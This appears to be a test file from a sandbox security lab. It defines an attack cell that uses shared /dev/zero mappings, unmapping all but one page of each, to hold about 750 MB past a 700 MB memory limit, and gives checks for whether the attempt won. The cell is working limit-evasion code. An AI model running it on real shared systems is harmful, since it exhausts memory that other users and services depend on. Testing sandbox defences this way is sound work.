"""Wants the machine's memory, by shared mappings of /dev/zero: what was written stays while one page of it is mapped.

Won: more than the limit (700 MB) was had.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "zero_is_no_device"
CELL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
try:
    place = os.open("/dev/zero", os.O_RDWR)
except PermissionError:
    raise Exception("no /dev/zero") from None
for _ in range(15):
    at = libc.mmap(None, 50 << 20, 3, 1, place, 0)
    ctypes.memset(at, 1, 50 << 20)
    libc.munmap(at + 4096, (50 << 20) - 4096)
raise Exception("LOOT 750 MB")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It tried."""
    return "no /dev/zero" in evidence.told
